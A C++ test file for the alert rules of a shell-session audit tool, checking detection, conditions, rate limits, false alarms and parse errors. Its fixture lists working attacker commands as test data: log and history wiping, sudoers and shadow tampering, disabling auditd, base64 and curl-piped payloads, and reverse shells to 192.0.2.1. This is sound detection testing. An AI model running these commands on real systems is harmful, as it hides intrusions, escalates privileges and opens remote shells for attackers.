// SPDX-License-Identifier: Apache-2.0
#include "audit/alert/alert_rules.hpp"

#include "audit/alert/alert_engine.hpp"
#include "audit/alert/output_lines.hpp"
#include "format/event_payload.hpp"
#include "format/msgpack_map.hpp"
#include "tests/support/ordinary_work.hpp"

#include <doctest/doctest.h>

#include <string>
#include <vector>

using namespace sworn;
using namespace sworn::audit::alert;
using format::EventKind;

namespace {

// Feeds an engine with the events of a session.
class Session {
 public:
  explicit Session(const std::string& toml, const std::string& user = "alice")
      : engine_(parse_alert_rules(toml, "test").value()) {
    format::ClockMap clock;
    clock.add({0}, *parse_rfc3339("2026-11-21T12:00:00Z"));
    engine_.set_clock(clock);
    format::SessionStart start;
    start.user = user;
    put(EventKind::session_start, encode(start));
  }
  Session& command(const std::string& text, int status = 0) {
    ++n_;
    put(EventKind::command_begin,
        encode(format::CommandBegin{n_, 9, text, "hook", "/", "bash", 0, {}}));
    put(EventKind::command_end, encode(format::CommandEnd{n_, 9, status, "", "/", {}}));
    return *this;
  }
  Session& exec(const std::vector<std::string>& argv) {
    put(EventKind::exec, format::MapWriter().number("pid", 5).texts("argv", argv).finish());
    return *this;
  }
  Session& file(const std::string& path) {
    put(EventKind::file, format::MapWriter().number("pid", 5).text("path", path).finish());
    return *this;
  }
  Session& output(std::string_view bytes) {
    put(EventKind::output, to_bytes(bytes));
    return *this;
  }
  Session& wait(double seconds) {
    now_ += static_cast<std::int64_t>(seconds * 1e6);
    return *this;
  }
  [[nodiscard]] std::string fired() const {
    std::string out;
    for (const auto& hit : hits) {
      out += (out.empty() ? "" : " ") + engine_.rules()[hit.rule].name + "@" +
             std::to_string(hit.command);
    }
    return out;
  }
  std::vector<AlertHit> hits;

 private:
  void put(EventKind kind, Bytes data) {
    now_ += 1'000;
    engine_.add({number_++, kind, {now_}, {now_}, data}, hits);
  }
  AlertEngine engine_;
  std::uint64_t n_ = 0;
  std::uint64_t number_ = 0;
  std::int64_t now_ = 0;
};

std::string error_of(const std::string& toml) {
  const auto rules = parse_alert_rules(toml, "r.toml");
  return rules ? "" : rules.error().context;
}

std::string k_default() {
  return std::string(default_alert_rules());
}

struct Attack {
  std::string rule;
  std::string command;
};

// What people do to hide, to stay, and to get out.
std::vector<Attack> attacks() {
  return {
      {"log-deletion", "rm -f /var/log/auth.log"},
      {"log-deletion", "sudo rm -rf /var/log/audit/"},
      {"log-deletion", "cat /dev/null > /var/log/wtmp"},
      {"log-deletion", ": >/var/log/lastlog"},
      {"log-deletion", "shred -u /var/log/syslog.1"},
      {"log-deletion", "truncate -s 0 /var/log/syslog"},
      {"log-deletion", "cp /dev/null /var/log/btmp"},
      {"log-deletion", "ln -sf /dev/null /var/log/auth.log"},
      {"log-deletion", "journalctl --vacuum-time=1s"},
      {"log-deletion", "sed -i /10.0.0.7/d /var/log/auth.log"},
      {"history-clearing", "history -c"},
      {"history-clearing", "unset HISTFILE"},
      {"history-clearing", "export HISTFILE=/dev/null"},
      {"history-clearing", "HISTSIZE=0"},
      {"history-clearing", "set +o history"},
      {"history-clearing", "rm ~/.bash_history"},
      {"history-clearing", "ln -sf /dev/null ~/.bash_history"},
      {"history-clearing", "> ~/.zsh_history"},
      {"account-files", "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"},
      {"account-files", "vim /etc/shadow"},
      {"account-files", "sudo tee /etc/sudoers.d/x"},
      {"account-files", "sed -i s/x/y/ /etc/passwd"},
      {"account-files", "useradd -o -u 0 toor"},
      {"account-files", "usermod -aG sudo mallory"},
      {"audit-off", "auditctl -e 0"},
      {"audit-off", "sudo auditctl -D"},
      {"audit-off", "systemctl stop auditd"},
      {"audit-off", "service rsyslog stop"},
      {"audit-off", "systemctl mask --now systemd-journald"},
      {"audit-off", "pkill -9 rsyslogd"},
      {"recorder-stop", "pkill sworn-recorder"},
      {"recorder-stop", "kill -9 $(pidof swornd)"},
      {"recorder-stop", "systemctl stop swornd"},
      {"recorder-stop", "rm -rf /var/lib/sworn/sessions"},
      {"recorder-stop", "shred x.sworn.part"},
      {"encoded-command", "echo cm0gLXJmIC8K | base64 -d | sh"},
      {"encoded-command", "base64 --decode <<<aWQ= | sudo bash"},
      {"encoded-command", "bash -c \"$(echo aWQ= | base64 -d)\""},
      {"encoded-command", "eval $(echo aWQ= | base64 -d)"},
      {"encoded-command", "curl -s http://192.0.2.1/x | bash"},
      {"encoded-command", "echo aWQ= | base64 -d | python3"},
      {"reverse-shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"},
      {"reverse-shell", "nc -e /bin/sh 192.0.2.1 4444"},
      {"reverse-shell", "ncat 192.0.2.1 4444 --exec /bin/bash"},
      {"reverse-shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f"},
      {"reverse-shell", "socat TCP:192.0.2.1:4444 EXEC:/bin/sh"},
      {"reverse-shell",
       "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));"
       "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"},
      {"reverse-shell",
       "perl -e 'use "
       "Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,\">&S\");exec(\"/bin/sh\")'"},
  };
}

}  // namespace

TEST_CASE("default alert rules: every attack fires its rule") {
  const auto rules = parse_alert_rules(default_alert_rules(), "default");
  REQUIRE_MESSAGE(rules, (rules ? std::string() : rules.error().context));
  CHECK(rules->size() >= 7);
  for (const auto& attack : attacks()) {
    CAPTURE(attack.command);
    Session session(k_default());
    session.command(attack.command);
    CHECK(session.fired().find(attack.rule + "@1") != std::string::npos);
    CHECK(session.hits.size() <= 2);
  }
}

TEST_CASE("default alert rules: by the program and the file, where the text hides it") {
  CHECK(Session(k_default())
            .command("x=rm; $x /var/log/auth.log")
            .exec({"rm", "/var/log/auth.log"})
            .fired() == "log-deletion@1");
  CHECK(Session(k_default()).command("./run").exec({"/sbin/auditctl", "-e", "0"}).fired() ==
        "audit-off@1");
  CHECK(Session(k_default())
            .command("./run")
            .exec({"nc", "-e", "/bin/sh", "192.0.2.1", "1"})
            .fired() == "reverse-shell@1");
  CHECK(Session(k_default()).command("./run").file("/etc/shadow").fired() == "account-files@1");
  CHECK(Session(k_default()).command("./run").file("/etc/sudoers.d/zz").fired() ==
        "account-files@1");
}

TEST_CASE("default alert rules: nothing in two hours of ordinary work") {
  for (const auto& work : {test::ordinary_morning(), test::ordinary_afternoon()}) {
    Session session(k_default());
    for (const auto& command : work) {
      session.command(command);
      session.wait(20);
    }
    REQUIRE(work.size() >= 100);
    for (const auto& hit : session.hits) {
      CAPTURE(hit.text);
      FAIL_CHECK("a false alarm");
    }
  }
}

TEST_CASE("alert rules: conditions") {
  const std::string base = "[[rule]]\nname=\"r\"\ncommand='danger'\n";
  CHECK(Session(base).command("danger").fired() == "r@1");
  CHECK(Session(base).command("safe").fired().empty());
  CHECK(Session(base + "unless='danger ok'\n").command("danger ok").command("danger").fired() ==
        "r@2");
  CHECK(Session(base + "user='alice'\n").command("danger").fired() == "r@1");
  CHECK(Session(base + "user=['bob','root']\n").command("danger").fired().empty());
  CHECK(Session(base + "not_user='alice'\n").command("danger").fired().empty());
  CHECK(Session(base + "status=[1,126]\n").command("danger", 0).command("danger", 126).fired() ==
        "r@2");
  CHECK(Session("[[rule]]\nname='r'\nstatus=127\n").command("x", 127).command("y").fired() ==
        "r@1");
  CHECK(Session("[[rule]]\nname='r'\noutput='permission denied'\n")
            .command("x")
            .output("\x1b[31mpermis")
            .output("sion den\x1b]0;title\x07ied\r\n")
            .fired() == "r@1");
  // Twelve o'clock in UTC; the tests run with TZ unset or UTC.
  ::setenv("TZ", "UTC", 1);
  ::tzset();
  CHECK(Session(base + "hours='11:00-13:00'\n").command("danger").fired() == "r@1");
  CHECK(Session(base + "hours='22:00-06:00'\n").command("danger").fired().empty());
  CHECK(Session(base + "hours='22:00-12:30'\n").command("danger").fired() == "r@1");
}

TEST_CASE("alert rules: a rate counts within its window, and once for a command") {
  const std::string toml = "[[rule]]\nname=\"r\"\ncommand='x'\nrate=3\nrate_seconds=10\n";
  CHECK(Session(toml).command("x").command("x").fired().empty());
  CHECK(Session(toml).command("x").command("x").command("x").fired() == "r@3");
  CHECK(Session(toml).command("x").wait(8).command("x").wait(8).command("x").fired().empty());
  CHECK(Session(toml).command("x").command("x").command("x").command("x").fired() == "r@3");
  CHECK(Session("[[rule]]\nname='r'\ncommand='x'\nexec='x'\n")
            .command("x")
            .exec({"x"})
            .exec({"x"})
            .command("x")
            .fired() == "r@1 r@2");
}

TEST_CASE("alert rules: a long command line is matched when it is whole") {
  format::CommandBegin part{1, 9,       "echo " + std::string(40'000, 'a'), "hook", "/", "bash",
                            0, {"more"}};
  AlertEngine engine(parse_alert_rules("[[rule]]\nname='r'\ncommand='a+ danger'\n", "t").value());
  std::vector<AlertHit> hits;
  auto data = encode(part);
  engine.add({0, EventKind::command_begin, {1}, {1}, data}, hits);
  part.text = " danger";
  part.flags = {"continued"};
  data = encode(part);
  engine.add({1, EventKind::command_begin, {2}, {2}, data}, hits);
  REQUIRE(hits.size() == 1);
  CHECK(hits[0].command == 1);
}

TEST_CASE("alert rules: errors name file, line and reason") {
  CHECK(error_of("[[rule]]\nname='a'\ncommand='('\n").find("r.toml:3: command: ") == 0);
  CHECK(error_of("[[rule]]\nname='a'\ncomand='x'\ncommand='y'\n") ==
        "r.toml:3: comand is not known here");
  CHECK(error_of("[[rule]]\ncommand='x'\n") == "r.toml:1: a rule needs a name");
  CHECK(error_of("[[rule]]\nname='a'\n").find("would match everything") != std::string::npos);
  CHECK(error_of("[[rule]]\nname='a'\ncommand='x'\nseverity='bad'\n") ==
        "r.toml:4: a severity is low, medium, high or critical");
  CHECK(error_of("[[rule]]\nname='a'\ncommand='x'\nactions=['mail']\n")
            .find("r.toml:4: mail is no") == 0);
  CHECK(error_of("[[rule]]\nname='a'\ncommand='x'\nactions='command'\n").find("belong together") !=
        std::string::npos);
  CHECK(error_of("[[rule]]\nname='a'\ncommand='x'\nactions='webhook'\nurl='file:///x'\n")
            .find("r.toml:5: ") == 0);
  CHECK(
      error_of("[[rule]]\nname='a'\ncommand='x'\nhours='25:00-26:00'\n").find("r.toml:4: hours") ==
      0);
  CHECK(error_of("[[rule]]\nname='a'\ncommand='x'\nrate='5'\n") ==
        "r.toml:4: rate must be a number");
  CHECK(error_of("[[rule]]\nname='a'\ncommand='x'\n[[rule]]\nname='a'\ncommand='y'\n")
            .find("r.toml:5: there are two") == 0);
  CHECK(error_of("[[rule]\n").find("r.toml:1: ") == 0);
  CHECK(error_of("[other]\nx=1\n").find("r.toml:1: other is not known") == 0);
}

TEST_CASE("output lines: text out of a terminal's bytes") {
  const auto lines = [](std::string_view bytes, std::size_t piece) {
    OutputLines out;
    std::string all;
    while (!bytes.empty()) {
      out.feed(bytes.substr(0, piece),
               [&](std::string_view line) { all += std::string(line) + "|"; });
      bytes.remove_prefix(std::min(piece, bytes.size()));
    }
    return all + out.unfinished();
  };
  for (const std::size_t piece : {1U, 3U, 1000U}) {
    CHECK(lines("\x1b[1;31mred\x1b[0m\r\nplain\n\nend", piece) == "red|plain|end");
    CHECK(lines("\x1b]0;title\x07"
                "a\x1b(Bb\x1bPq#0\x1b\\c\x1b"
                "7d",
                piece) == "abcd");
    CHECK(lines("abc\b\bXY\n", piece) == "aXY|");
    CHECK(lines("\x1b[31\x18ok\n", piece) == "ok|");
  }
  OutputLines out;
  out.feed(std::string(100'000, 'x'), [](std::string_view) {});
  CHECK(out.unfinished().size() == OutputLines::k_max_line);
}
